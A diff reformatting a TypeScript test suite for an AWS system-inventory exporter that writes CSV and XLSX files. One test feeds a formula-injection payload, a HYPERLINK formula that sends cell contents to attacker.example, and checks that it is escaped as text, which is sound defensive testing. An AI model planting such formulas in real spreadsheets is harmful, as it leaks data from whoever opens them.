@@ -17,18 +17,21 @@ import { onlyPack, runCliInProcess, sampleDir, tempDir } from './helpers.ts';
 /** The configuration items of the sample's snapshot files, read here on their own: what the inventory must list. */
 function sampleConfigurationItems(): { arn: string; account: string; type: string; tags: Record<string, string> }[] {
   const dir = join(sampleDir, 'config-snapshots');
-  return (readdirSync(dir, { recursive: true }) as string[]).filter((f) => f.endsWith('.json')).flatMap((f) =>
-    (JSON.parse(readFileSync(join(dir, f), 'utf8')).configurationItems as any[]).map((ci) => ({ arn: ci.ARN, account: ci.awsAccountId, type: ci.resourceType, tags: ci.tags ?? {} })));
+  return (readdirSync(dir, { recursive: true }) as string[])
+    .filter((f) => f.endsWith('.json'))
+    .flatMap((f) => (JSON.parse(readFileSync(join(dir, f), 'utf8')).configurationItems as any[]).map((ci) => ({ arn: ci.ARN, account: ci.awsAccountId, type: ci.resourceType, tags: ci.tags ?? {} })));
 }
 
 /** A workbook's sheet as rows of cell text (the header row first). */
 function sheetRows(sheet: ExcelJS.Worksheet): string[][] {
   const rows: string[][] = [];
   sheet.eachRow({ includeEmpty: true }, (row) => {
-    rows.push(Array.from({ length: sheet.columnCount }, (_, i) => {
-      const v = row.getCell(i + 1).value;
-      return v === null || v === undefined ? '' : String(v);
-    }));
+    rows.push(
+      Array.from({ length: sheet.columnCount }, (_, i) => {
+        const v = row.getCell(i + 1).value;
+        return v === null || v === undefined ? '' : String(v);
+      }),
+    );
   });
   return rows;
 }
@@ -59,10 +62,18 @@ describe('the system inventory of a sample pack', () => {
 
   it('lists inventory.csv and inventory.xlsx in the signed manifest, with their hashes', () => {
     const manifest = JSON.parse(readFileSync(join(pack, 'manifest.json'), 'utf8'));
-    for (const [path, mediaType] of [['inventory.csv', 'text/csv; charset=utf-8'], ['inventory.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']] as const) {
+    for (const [path, mediaType] of [
+      ['inventory.csv', 'text/csv; charset=utf-8'],
+      ['inventory.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+    ] as const) {
       const entry = manifest.files.find((f: { path: string }) => f.path === path);
       assert.ok(entry, `${path} is in the manifest`);
-      assert.equal(entry.sha256, createHash('sha256').update(readFileSync(join(pack, path))).digest('hex'));
+      assert.equal(
+        entry.sha256,
+        createHash('sha256')
+          .update(readFileSync(join(pack, path)))
+          .digest('hex'),
+      );
       assert.equal(entry.mediaType, mediaType);
     }
   });
@@ -72,7 +83,10 @@ describe('the system inventory of a sample pack', () => {
     assert.ok(sheet, 'an Inventory sheet');
     assert.deepEqual(sheetRows(sheet)[0], inventoryHeaders);
     assert.equal(inventoryHeaders.length, 25);
-    assert.deepEqual([inventoryHeaders[0], inventoryHeaders[1], inventoryHeaders[8], inventoryHeaders[23], inventoryHeaders[24]], ['UNIQUE ASSET IDENTIFIER', 'IPv4 or IPv6 Address', 'Baseline Configuration Name', 'Function', 'End-of-Life']);
+    assert.deepEqual(
+      [inventoryHeaders[0], inventoryHeaders[1], inventoryHeaders[8], inventoryHeaders[23], inventoryHeaders[24]],
+      ['UNIQUE ASSET IDENTIFIER', 'IPv4 or IPv6 Address', 'Baseline Configuration Name', 'Function', 'End-of-Life'],
+    );
     assert.deepEqual(csv[0], inventoryHeaders);
   });
 
@@ -114,7 +128,10 @@ describe('the system inventory of a sample pack', () => {
 
   it('has a legend sheet naming, for every column, where its value comes from or why it is blank', () => {
     const legend = sheetRows(workbook.getWorksheet('Legend')!);
-    assert.deepEqual(legend.slice(1, 1 + inventoryHeaders.length).map((r) => r[0]), inventoryHeaders);
+    assert.deepEqual(
+      legend.slice(1, 1 + inventoryHeaders.length).map((r) => r[0]),
+      inventoryHeaders,
+    );
     assert.ok(legend.slice(1, 1 + inventoryHeaders.length).every((r) => r[1]!.length > 10));
     assert.ok(legend.some((r) => r[0] === 'Template' && /Integrated Inventory Workbook/.test(r[1]!)));
   });
@@ -147,13 +164,22 @@ describe('hostile tag values in the inventory', () => {
     const row = readCsv(join(pack, 'inventory.csv')).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
     assert.equal(row[inventoryHeaders.indexOf('Function')], `'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
     assert.equal(row[inventoryHeaders.indexOf('System Administrator/ Owner')], "'@SUM(1+1)");
-    const cells = readFileSync(join(pack, 'inventory.csv'), 'utf8').split('\r\n').flatMap((l) => l.split(','));
-    assert.ok(cells.every((c) => !/^"?[=+@]/.test(c)), 'no formula cell in inventory.csv');
+    const cells = readFileSync(join(pack, 'inventory.csv'), 'utf8')
+      .split('\r\n')
+      .flatMap((l) => l.split(','));
+    assert.ok(
+      cells.every((c) => !/^"?[=+@]/.test(c)),
+      'no formula cell in inventory.csv',
+    );
     const sheet = (await readWorkbook(join(pack, 'inventory.xlsx'))).getWorksheet('Inventory')!;
     const xrow = sheetRows(sheet).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
     assert.equal(xrow[inventoryHeaders.indexOf('Function')], '=HYPERLINK("http://attacker.example/?x="&A1,"click")', 'a text cell, as written');
     let formulas = 0;
-    sheet.eachRow((r) => r.eachCell((c) => { if (c.type === ExcelJS.ValueType.Formula) formulas++; }));
+    sheet.eachRow((r) =>
+      r.eachCell((c) => {
+        if (c.type === ExcelJS.ValueType.Formula) formulas++;
+      }),
+    );
     assert.equal(formulas, 0, 'no formula cell in the workbook');
   });
 });
@@ -168,8 +194,29 @@ describe('a workbook past the sheet row limit', () => {
     };
     await write('one.xlsx');
     const wb = await readWorkbook(join(dir, 'one.xlsx'));
-    assert.deepEqual(wb.worksheets.map((s) => s.name), ['Inventory', 'Inventory (2)', 'Inventory (3)', 'Legend']);
-    assert.deepEqual(wb.worksheets.slice(0, 3).map((s) => sheetRows(s)), [[['A', 'B'], ['a1', ''], ['a2', 'b2']], [['A', 'B'], ['a3', ''], ['a4', 'b4']], [['A', 'B'], ['a5', '']]]);
+    assert.deepEqual(
+      wb.worksheets.map((s) => s.name),
+      ['Inventory', 'Inventory (2)', 'Inventory (3)', 'Legend'],
+    );
+    assert.deepEqual(
+      wb.worksheets.slice(0, 3).map((s) => sheetRows(s)),
+      [
+        [
+          ['A', 'B'],
+          ['a1', ''],
+          ['a2', 'b2'],
+        ],
+        [
+          ['A', 'B'],
+          ['a3', ''],
+          ['a4', 'b4'],
+        ],
+        [
+          ['A', 'B'],
+          ['a5', ''],
+        ],
+      ],
+    );
     await new Promise((resolve) => setTimeout(resolve, 2100)); // past the 2 s resolution of a zip entry's time
     await write('two.xlsx');
     assert.ok(readFileSync(join(dir, 'one.xlsx')).equals(readFileSync(join(dir, 'two.xlsx'))), 'the same bytes');
@@ -178,18 +225,66 @@ describe('a workbook past the sheet row limit', () => {
 
 describe('inventory facts from configuration items', () => {
   const resource = (type: string, configuration: Record<string, unknown>, tags: Record<string, string> = {}, zone?: string): Resource => ({
-    key: `111111111111/us-east-1/${type}/x`, account: '111111111111', region: 'us-east-1', type, id: 'x', tags, configuration, supplementary: {},
-    capturedAt: '2026-10-31T00:00:00.000Z', status: 'OK', origin: { file: 'f', pointer: '', api: 'AWS Config snapshot' }, ...(zone ? { zone } : {}),
+    key: `111111111111/us-east-1/${type}/x`,
+    account: '111111111111',
+    region: 'us-east-1',
+    type,
+    id: 'x',
+    tags,
+    configuration,
+    supplementary: {},
+    capturedAt: '2026-10-31T00:00:00.000Z',
+    status: 'OK',
+    origin: { file: 'f', pointer: '', api: 'AWS Config snapshot' },
+    ...(zone ? { zone } : {}),
   });
 
-  it('reads a WorkSpace\'s address, computer name and operating system where recorded', () => {
-    assert.deepEqual(assetFacts(resource('AWS::WorkSpaces::Workspace', { IpAddress: '10.0.1.17', ComputerName: 'WSAMZN-ABC123', BundleId: 'wsb-1', SubnetId: 'subnet-1', WorkspaceProperties: { OperatingSystemName: 'WINDOWS_SERVER_2022', ComputeTypeName: 'POWER' } }, { Owner: 'IT desk', Function: 'analyst desktop' }, 'use1-az4')), {
-      ips: ['10.0.1.17'], netbios: 'WSAMZN-ABC123', os: 'WINDOWS_SERVER_2022', baseline: 'WorkSpaces bundle wsb-1', hardware: 'WorkSpaces compute type POWER', network: 'subnet-1', zone: 'use1-az4', owner: 'IT desk', function: 'analyst desktop',
-    });
+  it("reads a WorkSpace's address, computer name and operating system where recorded", () => {
+    assert.deepEqual(
+      assetFacts(
+        resource(
+          'AWS::WorkSpaces::Workspace',
+          {
+            IpAddress: '10.0.1.17',
+            ComputerName: 'WSAMZN-ABC123',
+            BundleId: 'wsb-1',
+            SubnetId: 'subnet-1',
+            WorkspaceProperties: { OperatingSystemName: 'WINDOWS_SERVER_2022', ComputeTypeName: 'POWER' },
+          },
+          { Owner: 'IT desk', Function: 'analyst desktop' },
+          'use1-az4',
+        ),
+      ),
+      {
+        ips: ['10.0.1.17'],
+        netbios: 'WSAMZN-ABC123',
+        os: 'WINDOWS_SERVER_2022',
+        baseline: 'WorkSpaces bundle wsb-1',
+        hardware: 'WorkSpaces compute type POWER',
+        network: 'subnet-1',
+        zone: 'use1-az4',
+        owner: 'IT desk',
+        function: 'analyst desktop',
+      },
+    );
   });
 
   it("reads an EC2 instance's addresses, DNS names, public address, zone, AMI and type", () => {
-    const f = assetFacts(resource('AWS::EC2::Instance', { privateIpAddress: '10.0.0.5', publicIpAddress: '203.0.113.9', privateDnsName: 'ip-10-0-0-5.ec2.internal', publicDnsName: 'ec2-203-0-113-9.compute-1.amazonaws.com', placement: { availabilityZone: 'us-east-1b' }, imageId: 'ami-1', instanceType: 't3.micro', platformDetails: 'Linux/UNIX', vpcId: 'vpc-1', subnetId: 'subnet-2', networkInterfaces: [{ ipv6Addresses: [{ ipv6Address: '2001:db8::5' }] }] }))!;
+    const f = assetFacts(
+      resource('AWS::EC2::Instance', {
+        privateIpAddress: '10.0.0.5',
+        publicIpAddress: '203.0.113.9',
+        privateDnsName: 'ip-10-0-0-5.ec2.internal',
+        publicDnsName: 'ec2-203-0-113-9.compute-1.amazonaws.com',
+        placement: { availabilityZone: 'us-east-1b' },
+        imageId: 'ami-1',
+        instanceType: 't3.micro',
+        platformDetails: 'Linux/UNIX',
+        vpcId: 'vpc-1',
+        subnetId: 'subnet-2',
+        networkInterfaces: [{ ipv6Addresses: [{ ipv6Address: '2001:db8::5' }] }],
+      }),
+    )!;
     assert.deepEqual(f.ips, ['10.0.0.5', '203.0.113.9', '2001:db8::5']);
     assert.deepEqual(f.dns, ['ip-10-0-0-5.ec2.internal', 'ec2-203-0-113-9.compute-1.amazonaws.com']);
     assert.equal(f.public, true);
@@ -207,16 +302,27 @@ describe('the inventory of an organization read through an aggregator (fake endp
   const hub = '999999999999';
   const accounts = ['111111111111', '222222222222', '333333333333'];
   const ci = (account: string, region: string, i: number) => ({
-    resourceId: `ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`, resourceName: `ws-${i}`, resourceType: 'AWS::WorkSpaces::Workspace', accountId: account, awsRegion: region,
-    arn: `arn:aws:workspaces:${region}:${account}:workspace/ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`, availabilityZone: 'Regional',
+    resourceId: `ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`,
+    resourceName: `ws-${i}`,
+    resourceType: 'AWS::WorkSpaces::Workspace',
+    accountId: account,
+    awsRegion: region,
+    arn: `arn:aws:workspaces:${region}:${account}:workspace/ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`,
+    availabilityZone: 'Regional',
     configuration: { Id: `ws-${i}`, BundleId: 'wsb-org', RootVolumeEncryptionEnabled: true, UserVolumeEncryptionEnabled: true },
-    supplementaryConfiguration: {}, tags: [{ key: 'Owner', value: `team-${account.slice(0, 1)}` }], relationships: [],
-    configurationItemCaptureTime: '2026-11-18T10:00:00.000Z', configurationItemStatus: 'OK', configurationStateId: '1',
+    supplementaryConfiguration: {},
+    tags: [{ key: 'Owner', value: `team-${account.slice(0, 1)}` }],
+    relationships: [],
+    configurationItemCaptureTime: '2026-11-18T10:00:00.000Z',
+    configurationItemStatus: 'OK',
+    configurationStateId: '1',
   });
   const resources = accounts.flatMap((a, k) => ['us-east-1', 'eu-west-1'].flatMap((r) => Array.from({ length: 3 + k }, (_, i) => ci(a, r, i))));
   const aggregator: FakeAggregator = {
     sources: accounts.flatMap((a) => ['us-east-1', 'eu-west-1'].map((r) => ({ SourceId: a, SourceType: 'ACCOUNT' as const, AwsRegion: r, LastUpdateStatus: 'SUCCEEDED' as const }))),
-    resources, rules: [], evaluations: {},
+    resources,
+    rules: [],
+    evaluations: {},
   };
   let aws: FakeAws;
   after(() => aws?.close());
